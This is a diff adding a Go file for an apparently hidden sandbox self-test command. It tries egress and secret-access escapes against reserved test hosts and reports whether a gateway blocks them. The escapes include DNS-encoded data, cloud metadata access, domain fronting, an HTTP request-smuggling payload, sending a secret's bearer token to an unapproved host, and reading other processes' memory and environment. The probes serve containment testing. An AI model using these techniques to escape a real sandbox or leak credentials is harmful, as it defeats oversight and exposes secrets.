@@ -1,0 +1,365 @@
+package main
+
+import (
+	"bufio"
+	"context"
+	"crypto/tls"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"os"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"time"
+
+	"github.com/spf13/cobra"
+)
+
+// probePlan is what the probe inside the sandbox is told.
+type probePlan struct {
+	Host    string   `json:"host"` // an HTTPS host that policy allows; "" if there is none
+	Port    uint16   `json:"port"`
+	Other   string   `json:"other"`   // an allowed host that Secret is not approved for; "" if none
+	Secret  string   `json:"secret"`  // environment variable of a secret; "" if none
+	Hidden  []string `json:"hidden"`  // paths that must not be readable
+	Sockets bool     `json:"sockets"` // the sandbox has a file system of its own: no socket of the host may answer
+}
+
+// probeResult is one attempt from inside.
+type probeResult struct {
+	Promise string `json:"promise"`
+	Title   string `json:"title"`
+	Held    bool   `json:"held"`
+	Saw     string `json:"saw"`
+	// What the record of the attempt is found by; empty when none is due.
+	Source uint16 `json:"source,omitempty"` // port of the connection's near end
+	Name   string `json:"name,omitempty"`   // that was asked for
+	Dst    string `json:"dst,omitempty"`    // of a packet
+	Port   uint16 `json:"port,omitempty"`   // of a packet's destination
+	Secret string `json:"secret,omitempty"` // whose variable Saw is
+}
+
+func probeInsideCommand() *cobra.Command {
+	var plan string
+	cmd := &cobra.Command{Use: "probe-inside", Hidden: true, Args: cobra.NoArgs, RunE: func(*cobra.Command, []string) error {
+		var p probePlan
+		if err := json.Unmarshal([]byte(plan), &p); err != nil {
+			return err
+		}
+		out := json.NewEncoder(os.Stdout)
+		for _, attempt := range probeAttempts(p) {
+			ctx, cancel := context.WithTimeout(context.Background(), probeWait)
+			r := attempt(ctx)
+			cancel()
+			if err := out.Encode(r); err != nil {
+				return err
+			}
+		}
+		return nil
+	}}
+	cmd.Flags().StringVar(&plan, "plan", "{}", "")
+	return cmd
+}
+
+// probeWait bounds one attempt.
+const probeWait = 5 * time.Second
+
+// Where the probe goes: documentation addresses (RFC 5737, RFC 3849), the
+// metadata address of clouds, and names that nobody has (RFC 6761).
+const (
+	probeAddr4 = "192.0.2.77"
+	probeAddr6 = "2001:db8::77"
+	probeMeta  = "169.254.169.254"
+	probeName  = "probe.sallyport.test"
+)
+
+type probeAttempt func(context.Context) probeResult
+
+func probeAttempts(p probePlan) []probeAttempt {
+	list := []probeAttempt{
+		tcpProbe("TCP to an address, port 22", probeAddr4, 22),
+		tcpProbe("TCP to an address, port 6379", probeAddr4, 6379),
+		tcpProbe("TCP to an IPv6 address", probeAddr6, 443),
+		tcpProbe("DNS over TLS", probeAddr4, 853),
+		tcpProbe("cloud metadata", probeMeta, 80),
+		udpProbe("UDP (QUIC)", probeAddr4, 443),
+		udpProbe("UDP (NTP)", probeAddr4, 123),
+		udpProbe("UDP over IPv6", probeAddr6, 4433),
+		dnsProbe("data in a name, to the resolver", ""),
+		dnsProbe("data in a name, to another resolver", probeAddr4),
+		dohProbe,
+		ownPortsProbe,
+	}
+	if p.Host != "" {
+		list = append(list, frontProbe(p, "Host of another name on an allowed connection", "GET / HTTP/1.1\r\nHost: "+probeName+"\r\nConnection: close\r\n\r\n", p.Host),
+			frontProbe(p, "absolute target of another name", "GET https://"+probeName+"/ HTTP/1.1\r\nHost: "+p.Host+"\r\nConnection: close\r\n\r\n", p.Host),
+			frontProbe(p, "server name of another host", "GET / HTTP/1.1\r\nHost: "+p.Host+"\r\nConnection: close\r\n\r\n", probeName),
+			frontProbe(p, "request with two lengths", "POST / HTTP/1.1\r\nHost: "+p.Host+"\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", p.Host))
+	}
+	if p.Secret != "" {
+		list = append(list, environmentProbe(p.Secret))
+		if p.Other != "" {
+			list = append(list, leakProbe(p))
+		}
+	}
+	for _, path := range p.Hidden {
+		list = append(list, fileProbe(path))
+	}
+	list = append(list, processProbe)
+	if p.Sockets {
+		list = append(list, socketProbe)
+	}
+	return list
+}
+
+// tcpProbe connects and sends. It holds when nothing comes back but, from
+// the gateway, a refusal or the end.
+func tcpProbe(title, addr string, port int) probeAttempt {
+	return func(ctx context.Context) probeResult {
+		r := probeResult{Promise: "P1", Title: title}
+		var d net.Dialer
+		c, err := d.DialContext(ctx, "tcp", net.JoinHostPort(addr, strconv.Itoa(port)))
+		if err != nil {
+			r.Held, r.Saw, r.Dst = true, reasonOf(err), addr
+			return r
+		}
+		defer c.Close()
+		r.Source = uint16(c.LocalAddr().(*net.TCPAddr).Port)
+		_ = c.SetDeadline(time.Now().Add(probeWait / 2)) // errors show in the read
+		_, _ = io.WriteString(c, "SSH-2.0-probe\r\n")
+		b, err := io.ReadAll(io.LimitReader(c, 512))
+		r.Held, r.Saw = len(b) == 0, reasonOf(err)
+		if len(b) > 0 {
+			r.Saw = fmt.Sprintf("%d bytes came back", len(b))
+		}
+		return r
+	}
+}
+
+// udpProbe sends a datagram and waits to be refused.
+func udpProbe(title, addr string, port int) probeAttempt {
+	return func(ctx context.Context) probeResult {
+		r := probeResult{Promise: "P1", Title: title, Dst: addr, Port: uint16(port)}
+		var d net.Dialer
+		c, err := d.DialContext(ctx, "udp", net.JoinHostPort(addr, strconv.Itoa(port)))
+		if err != nil {
+			r.Held, r.Saw, r.Dst = true, reasonOf(err), ""
+			return r
+		}
+		defer c.Close()
+		_ = c.SetDeadline(time.Now().Add(2 * time.Second)) // errors show in the read
+		_, err = c.Write([]byte("probe"))
+		if err == nil {
+			var n int
+			n, err = c.Read(make([]byte, 64))
+			r.Held = n == 0
+		} else {
+			r.Held = true
+		}
+		r.Saw = reasonOf(err)
+		return r
+	}
+}
+
+// dnsProbe asks for a name that carries data. It holds when no address comes
+// but one of the gateway's.
+func dnsProbe(title, resolver string) probeAttempt {
+	return func(ctx context.Context) probeResult {
+		name := fmt.Sprintf("c2VjcmV0-%d.%s", time.Now().UnixNano(), probeName)
+		r := probeResult{Promise: "P1", Title: title, Name: strings.ToLower(name)}
+		res := &net.Resolver{PreferGo: true}
+		if resolver != "" {
+			res.Dial = func(ctx context.Context, network, _ string) (net.Conn, error) {
+				var d net.Dialer
+				return d.DialContext(ctx, network, net.JoinHostPort(resolver, "53"))
+			}
+		}
+		addrs, err := res.LookupNetIP(ctx, "ip4", name)
+		r.Held, r.Saw = true, "not found"
+		for _, a := range addrs {
+			r.Saw = "answered " + a.String()
+			b := a.Unmap().As4()
+			r.Held = r.Held && b[0] == 198 && b[1]&^1 == 18
+		}
+		if err != nil {
+			var de *net.DNSError
+			r.Held = errors.As(err, &de) && !de.IsTimeout
+			r.Saw = "refused"
+		}
+		return r
+	}
+}
+
+// dohProbe asks a resolver over HTTPS.
+func dohProbe(ctx context.Context) probeResult {
+	name := "doh." + probeName
+	r := probeResult{Promise: "P1", Title: "DNS over HTTPS", Name: name}
+	client := &http.Client{Transport: &http.Transport{Proxy: nil, TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}}
+	req, err := http.NewRequestWithContext(ctx, http.MethodGet, "https://"+name+"/dns-query?name=example.test", nil)
+	if err != nil {
+		r.Saw = err.Error()
+		return r
+	}
+	resp, err := client.Do(req)
+	if err != nil {
+		r.Held, r.Saw = true, reasonOf(err)
+		return r
+	}
+	defer resp.Body.Close()
+	r.Saw = fmt.Sprintf("%d %s", resp.StatusCode, resp.Header.Get("X-Sallyport-Reason"))
+	r.Held = resp.Header.Get("X-Sallyport-Reason") != ""
+	return r
+}
+
+// ownPortsProbe looks for something of the gateway besides its files.
+func ownPortsProbe(ctx context.Context) probeResult {
+	r := probeResult{Promise: "P1", Title: "ports of the gateway itself", Held: true, Saw: "refused"}
+	for _, port := range []string{"22", "9090", "8080", "15001"} {
+		var d net.Dialer
+		c, err := d.DialContext(ctx, "tcp", net.JoinHostPort("sallyport.internal", port))
+		if err != nil {
+			continue
+		}
+		_ = c.SetDeadline(time.Now().Add(time.Second))
+		_, _ = io.WriteString(c, "GET /metrics HTTP/1.0\r\n\r\n")
+		b, _ := io.ReadAll(io.LimitReader(c, 512))
+		_ = c.Close()
+		if len(b) > 0 && !strings.Contains(string(b), "X-Sallyport-Reason") {
+			r.Held, r.Saw = false, "port "+port+" answers"
+		}
+	}
+	return r
+}
+
+// frontProbe sends one request on a TLS connection and expects the gateway
+// to refuse it.
+func frontProbe(p probePlan, title, request, sni string) probeAttempt {
+	return func(ctx context.Context) probeResult {
+		r := probeResult{Promise: "P2", Title: title}
+		var d net.Dialer
+		raw, err := d.DialContext(ctx, "tcp", net.JoinHostPort(p.Host, strconv.Itoa(int(p.Port))))
+		if err != nil {
+			r.Saw = reasonOf(err)
+			return r
+		}
+		defer raw.Close()
+		r.Source = uint16(raw.LocalAddr().(*net.TCPAddr).Port)
+		_ = raw.SetDeadline(time.Now().Add(probeWait / 2))
+		c := tls.Client(raw, &tls.Config{ServerName: sni, InsecureSkipVerify: true, NextProtos: []string{"http/1.1"}})
+		_, err = io.WriteString(c, request)
+		if err != nil {
+			r.Held, r.Saw = true, reasonOf(err)
+			return r
+		}
+		resp, err := http.ReadResponse(bufio.NewReader(c), nil)
+		if err != nil {
+			r.Held, r.Saw = true, reasonOf(err)
+			return r
+		}
+		defer resp.Body.Close()
+		r.Saw = fmt.Sprintf("%d %s", resp.StatusCode, resp.Header.Get("X-Sallyport-Reason"))
+		r.Held = resp.Header.Get("X-Sallyport-Reason") != ""
+		return r
+	}
+}
+
+// leakProbe sends a placeholder to a host that its secret is not for.
+func leakProbe(p probePlan) probeAttempt {
+	return func(ctx context.Context) probeResult {
+		r := frontProbe(probePlan{Host: p.Other, Port: p.Port}, "placeholder to a host that is not approved",
+			"GET / HTTP/1.1\r\nHost: "+p.Other+"\r\nAuthorization: Bearer "+os.Getenv(p.Secret)+"\r\nConnection: close\r\n\r\n", p.Other)(ctx)
+		r.Promise = "P4"
+		return r
+	}
+}
+
+// environmentProbe looks whether the variable of a secret is a placeholder.
+// What it may be is known outside only, so the value is told there.
+func environmentProbe(name string) probeAttempt {
+	return func(context.Context) probeResult {
+		return probeResult{Promise: "P3", Title: "the secret's variable", Secret: name, Saw: os.Getenv(name)}
+	}
+}
+
+// fileProbe tries to read a file or folder that holds secrets.
+func fileProbe(path string) probeAttempt {
+	return func(context.Context) probeResult {
+		r := probeResult{Promise: "P3", Title: "read " + path, Held: true, Saw: "nothing there"}
+		if entries, err := os.ReadDir(path); err == nil && len(entries) > 0 {
+			r.Held, r.Saw = false, fmt.Sprintf("%d entries", len(entries))
+		}
+		if b, err := os.ReadFile(path); err == nil && len(b) > 0 {
+			r.Held, r.Saw = false, fmt.Sprintf("%d bytes", len(b))
+		}
+		return r
+	}
+}
+
+// processProbe tries to read the memory and the environment of every process
+// but its own family.
+func processProbe(context.Context) probeResult {
+	r := probeResult{Promise: "P3", Title: "memory and environment of other processes", Held: true}
+	own := strconv.Itoa(os.Getpid())
+	paths, err := filepath.Glob("/proc/[0-9]*/comm")
+	if err != nil {
+		r.Held, r.Saw = false, err.Error()
+		return r
+	}
+	for _, p := range paths {
+		dir := filepath.Dir(p)
+		name, err := os.ReadFile(p)
+		if err != nil || filepath.Base(dir) == own || !strings.HasPrefix(string(name), "sallyport") {
+			continue
+		}
+		for _, f := range []string{"mem", "environ", "maps"} {
+			if h, err := os.Open(filepath.Join(dir, f)); err == nil {
+				b := make([]byte, 1)
+				n, _ := h.Read(b)
+				_ = h.Close()
+				if n > 0 {
+					r.Held, r.Saw = false, filepath.Join(dir, f)+" can be read"
+				}
+			}
+		}
+	}
+	if r.Held {
+		r.Saw = fmt.Sprintf("%d processes in sight, none of the gateway's can be read", len(paths))
+	}
+	return r
+}
+
+// socketProbe connects to every unix socket that the kernel shows.
+func socketProbe(ctx context.Context) probeResult {
+	r := probeResult{Promise: "P3", Title: "unix sockets of the host", Held: true, Saw: "none answers"}
+	b, err := os.ReadFile("/proc/net/unix")
+	if err != nil {
+		r.Saw = "none in sight"
+		return r
+	}
+	for line := range strings.Lines(string(b)) {
+		f := strings.Fields(line)
+		if len(f) < 8 {
+			continue
+		}
+		var d net.Dialer
+		if c, err := d.DialContext(ctx, "unix", f[7]); err == nil {
+			_ = c.Close()
+			r.Held, r.Saw = false, f[7]+" answers"
+		}
+	}
+	return r
+}
+
+// reasonOf is the last word of an error, which says how an attempt was
+// refused.
+func reasonOf(err error) string {
+	if err == nil {
+		return "closed"
+	}
+	text := err.Error()
+	return text[strings.LastIndex(text, ": ")+1:]
+}
